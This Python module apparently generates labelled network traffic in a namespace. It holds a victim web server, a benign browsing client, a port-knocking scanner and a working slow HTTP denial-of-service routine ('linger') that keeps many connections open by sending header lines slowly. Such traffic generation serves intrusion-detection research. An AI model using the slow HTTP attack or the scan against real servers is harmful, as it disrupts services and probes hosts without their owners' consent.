# SPDX-License-Identifier: Apache-2.0
"""Programs that record.py becomes inside a namespace: a web server, and the clients and attackers for which Debian has no second tool."""
from __future__ import annotations

import base64
import contextlib
import functools
import http.client
import http.server
import random
import socket
import time

from .services import PASSWORD, USER

# --- the victim's side ------------------------------------------------------------------------------------------------


class Pages(http.server.SimpleHTTPRequestHandler):
    """Files over HTTP/1.1; /private/ asks for a password; uploads are read and forgotten."""

    protocol_version = "HTTP/1.1"
    timeout = 60

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass

    def _answer_without_page(self, status: int, header: str = "") -> None:
        self.send_response(status)
        if header:
            self.send_header("WWW-Authenticate", header)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self) -> None:
        wanted = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
        if self.path.startswith("/private/") and self.headers.get("Authorization") != wanted:
            self._answer_without_page(401, 'Basic realm="private"')
        else:
            super().do_GET()

    def do_POST(self) -> None:
        left = int(self.headers.get("Content-Length", 0))
        while left > 0 and (data := self.rfile.read(min(left, 65536))):
            left -= len(data)
        self._answer_without_page(204)

    do_PUT = do_POST


class WebServer(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    daemon_threads = True
    request_queue_size = 128

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # clients that leave in the middle belong to the traffic


def web(folder: str, port: str) -> None:
    WebServer(("::", int(port)), functools.partial(Pages, directory=folder)).serve_forever()


# --- clients and attackers ----------------------------------------------------------------------------------------------


def visit(address: str, port: str, pages: str, pause: str, seed: str) -> None:
    """Reads pages by one connection, with time to think between them, as a person does."""
    numbers = random.Random(seed)
    connection = http.client.HTTPConnection(address, int(port), timeout=10)
    with contextlib.suppress(OSError, http.client.HTTPException):
        for page in pages.split(","):
            connection.request("GET", f"/{page}.html", headers={"User-Agent": "Mozilla/5.0", "Accept": "text/html,*/*;q=0.8"})
            connection.getresponse().read()
            time.sleep(numbers.expovariate(1 / float(pause)))
    connection.close()


def knock(address: str, ports: str, pause: str, seed: str) -> None:
    """Connects to ports one after another, in a random order, and closes: a monitor's checks, or a scan, by their number."""
    numbers = random.Random(seed)
    order = [int(port) for port in ports.split(",")]
    numbers.shuffle(order)
    for port in order:
        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=1):
            pass
        time.sleep(numbers.uniform(0.5, 1.5) * float(pause))


def linger(address: str, port: str, connections: str, pause: str, seconds: str) -> None:
    """Holds connections open by a header line now and then: a slow HTTP attack."""
    held: list[socket.socket] = []
    end = time.monotonic() + float(seconds)
    number = 0
    while time.monotonic() < end:
        if len(held) < int(connections):
            with contextlib.suppress(OSError):
                one = socket.create_connection((address, int(port)), timeout=2)
                one.sendall(b"POST /upload HTTP/1.1\r\nHost: victim\r\nContent-Length: 100000\r\n")
                held.append(one)
        for one in held[number % 7::7]:
            with contextlib.suppress(OSError):
                one.sendall(b"X-%d: %d\r\n" % (number, number))
        number += 1
        time.sleep(float(pause))
